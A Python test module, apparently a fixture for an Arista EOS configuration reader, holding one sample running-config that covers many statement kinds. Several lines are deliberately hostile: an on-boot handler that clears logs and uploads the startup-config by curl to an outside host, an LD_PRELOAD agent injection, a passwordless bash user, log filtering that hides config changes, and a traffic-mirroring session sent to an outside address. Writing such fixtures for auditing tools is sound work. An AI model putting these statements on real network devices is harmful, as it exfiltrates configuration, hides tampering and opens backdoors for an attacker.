"""A configuration with a statement of every kind that the reader knows."""

SAMPLE = """! Command: show running-config
! device: r1 (DCS-7280SR3-48YC8, EOS-4.30.1F)
!
! boot system flash:/EOS-4.30.1F.swi
!
no aaa root
!
username admin privilege 15 role network-admin secret sha512 $6$salt$hash1
username ops role auditor secret 5 $1$salt$hash2
username ops ssh-key ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPeFOiYvOO8CgT2oNCvmhI0Oy/GjHYoGVDQZwYlEkkzA ops@host
username shell shell /bin/bash nopassword
enable password sha512 $6$salt$hash3
boot secret 5 $1$salt$hash4
!
role auditor
   10 deny mode exec command bash
   20 permit mode exec command show .*
!
tacacs-server key 7 0011223344
tacacs-server host 192.0.2.31 vrf MGMT
tacacs-server host 192.0.2.32 key 8a $aaa$bbb$ccc
radius-server host 192.0.2.33 tls ssl-profile RADSEC
radius-server dynamic-authorization port 3799
!
aaa group server tacacs+ TAC
   server 192.0.2.31 vrf MGMT
   server 192.0.2.39
!
aaa authentication login default group TAC local
aaa authentication policy on-failure log
aaa authentication policy on-success log
aaa authentication policy lockout failure 5 duration 300
aaa authorization exec default group TAC local
aaa authorization commands all default group TAC local
aaa accounting commands all default start-stop group TAC logging
!
alias sh-hidden show running-config | exclude username
!
agent Bfd environment LD_PRELOAD=/mnt/flash/x.so
!
daemon TerminAttr
   exec /usr/bin/TerminAttr -cvaddr=198.51.100.9:9910 -cvauth=key,s3cr3tkey -cvvrf=MGMT -taillogs
   no shutdown
!
flow tracking hardware
   tracker T
      exporter E
         collector 198.51.100.7 port 4739
         local interface Loopback0
   no shutdown
!
hostname r1
ip name-server vrf MGMT 192.0.2.53
ip host badhost 203.0.113.1
!
logging buffered 1000 informational
logging trap informational
logging vrf MGMT host 192.0.2.40 6514 protocol tls ssl-profile LOGS
logging policy match match-list HIDE discard
logging level SYS critical
!
match-list input string HIDE
   10 match regex .*CONFIG_I.*
!
ntp authentication-key 1 sha1 7 0123456789
ntp trusted-key 1
ntp authenticate
ntp server vrf MGMT 192.0.2.50 key 1
ntp serve all
!
schedule nightly at 02:00:00 interval 1440 max-log-files 1 command copy running-config scp://user:Pa55word@203.0.113.8/backup
!
sflow sample 16384
sflow vrf MGMT destination 198.51.100.6 6343
sflow run
!
snmp-server community c0mmunity1 view ALL rw ipv6 SNMP6 SNMP4
snmp-server ipv4 access-list SNMP4 vrf MGMT
snmp-server view ALL iso included
snmp-server group G v3 priv read ALL
snmp-server user u1 G v3 localized f5717f00 auth sha deadbeef priv aes feedface
snmp-server user u2 G v3 auth sha256 Auth-Pass priv aes256 Priv-Pass
snmp-server host 192.0.2.60 vrf MGMT version 2c tr4pstring
snmp-server host 192.0.2.61 version 3 priv u1
snmp-server enable traps snmp authentication
snmp-server vrf MGMT
no snmp-server vrf default
!
tap aggregation
   mode exclusive
!
vrf instance CUST
!
vrf instance MGMT
!
interface Port-Channel1
   switchport trunk native vlan 99
   switchport trunk allowed vlan 1-5
   switchport trunk allowed vlan add 7
   switchport mode trunk
!
interface Ethernet1
   description !!! core ## link
   no switchport
   ip address 198.51.100.1/30
   ip address 198.51.100.5/30 secondary
   ip access-group EDGE in
   ip verify unicast source reachable-via rx
   service-policy type pbr input DIVERT
   traffic-policy input TP
   ip nat source static 10.0.0.5 80 198.51.100.5 8080 protocol tcp
   isis enable CORE
   isis authentication mode md5
   isis authentication key 7 $1c$isiskey=
   mpls ldp interface
   sflow enable
   flow tracker hardware T
   no lldp transmit
   no lldp receive
!
interface Ethernet2
   channel-group 1 mode active
!
interface Ethernet3
   shutdown
   no switchport
   vrf CUST
   ip address 10.1.0.1/24
   ipv6 address 2001:db8::1/64
   ip ospf area 0.0.0.0
   ip ospf authentication message-digest
   ip ospf message-digest-key 1 md5 7 ospfkey==
   vrrp 10 ipv4 10.1.0.254
   vrrp 10 peer authentication text vrrppass
!
interface Ethernet4
   switchport mode tap
!
interface Ethernet5
   switchport mode tool
!
interface Loopback0
   ip address 192.0.2.1/32
!
interface Management1
   vrf MGMT
   ip address 192.0.2.2/24
!
interface Tunnel9
   tunnel mode gre
   tunnel source 198.51.100.1
   tunnel destination 203.0.113.99
   tunnel ipsec profile PROT
!
interface Vxlan1
   vxlan source-interface Loopback0
   vxlan flood vtep 203.0.113.77
!
ip access-list EDGE
   10 remark permit telnet
   20 deny tcp any any eq telnet log
   30 permit udp 203.0.113.0/24 any eq 2123
   40 permit ip any any
!
ip access-list standard SNMP4
   10 permit host 192.0.2.20
!
ipv6 access-list SNMP6
   10 permit ipv6 2001:db8:1::/64 any
!
ip access-list MGMT-IN
   10 permit tcp 192.0.2.0/25 any eq ssh
   20 permit tcp any any eq bgp
   30 permit icmp any any
!
ip decap-group DG
   tunnel type gre
   tunnel decap-ip 192.0.2.1
!
ip security
   ike policy IKE
      encryption 3des
      integrity md5
      dh-group 2
   !
   sa policy SA
      esp encryption null
      pfs dh-group 14
   !
   profile PROT
      ike-policy IKE
      sa-policy SA
      shared-key 7 ikekey
!
ip prefix-list PL
   seq 10 permit 10.0.0.0/8 le 24
!
ip route vrf CUST 203.0.113.0/24 Null0
ip route 198.51.100.128/25 Ethernet1 198.51.100.2 egress-vrf default name diverted
!
mpls ldp
   router-id interface Loopback0
   no shutdown
   password 7 ldpkey
   pseudowires
      pseudowire W1
         neighbor 203.0.113.5
         pseudowire-id 500
!
monitor session spy source Ethernet1 both ip access-group EDGE
monitor session spy destination tunnel mode gre source 192.0.2.1 destination 203.0.113.66
!
patch panel
   patch P1
      connector 1 interface Ethernet6
      connector 2 pseudowire ldp W1
!
class-map type pbr match-any CM
   10 match ip access-group EDGE
!
policy-map type pbr DIVERT
   10 class CM
      set nexthop 203.0.113.44
!
traffic-policies
   traffic-policy TP
      match BAD ipv4
         source prefix 10.9.0.0/16
         actions
            redirect next-hop 203.0.113.45 vrf CUST
!
route-map RM permit 10
   match ip address prefix-list PL
   set ip next-hop 203.0.113.46
!
router bgp 65000
   router-id 192.0.2.1
   bgp listen range 10.2.0.0/16 peer-group DYN remote-as 65002
   neighbor DYN peer group
   neighbor DYN maximum-routes 50
   neighbor UP peer group
   neighbor UP remote-as 65001
   neighbor UP password 7 bgpkey==
   neighbor UP route-map RM in
   neighbor UP ttl maximum-hops 1
   neighbor 198.51.100.2 peer group UP
   neighbor 198.51.100.2 description upstream
   neighbor 198.51.100.2 maximum-routes 1000
   neighbor 192.0.2.9 remote-as 65000
   neighbor 192.0.2.9 password shared-secret profile AO algorithm hmac-sha1-96
   neighbor 192.0.2.9 shutdown
   rpki cache C1
      host 192.0.2.70 port 3323
   !
   address-family ipv4
      neighbor UP activate
   !
   address-family flow-spec ipv4
      neighbor 192.0.2.9 activate
   !
   vrf CUST
      neighbor 10.1.0.2 remote-as 65010
      neighbor 10.1.0.2 maximum-routes 0
!
router isis CORE
   net 49.0001.0000.0000.0001.00
!
router ospf 1 vrf CUST
   passive-interface default
!
system control-plane
   ip access-group MGMT-IN in
!
banner login
Authorised people only
! EOF not alone
username fake secret 0 banner-text
EOF
!
management api gnmi
   transport grpc default
      port 6031
   transport grpc-tunnel T1
      destination 203.0.113.21 port 10000
      target use-serial-number
!
management api http-commands
   protocol http port 8080
   no shutdown
   !
   vrf MGMT
      no shutdown
      ip access-group MGMT-IN
!
management console
   idle-timeout 10
!
management security
   password minimum length 12
   session shared-secret profile AO
      secret 1 7 aokey receive-lifetime infinite transmit-lifetime infinite
   ssl profile RADSEC
      tls versions 1.2 1.3
      certificate r1.pem key r1.key
!
management ssh
   idle-timeout 15
   cipher aes256-gcm@openssh.com
   server-port 2222
   ip access-group MGMT-IN vrf MGMT in
   !
   vrf MGMT
      no shutdown
   tunnel T2
      local port 9000
      ssh-server 203.0.113.31 user x
      remote host 192.0.2.90 port 22
      no shutdown
!
management telnet
   no shutdown
!
event-handler WATCH
   trigger on-boot
   action bash
      clear log
      curl -T /mnt/flash/startup-config http://203.0.113.3/
      EOF
   delay 0
!
end
"""
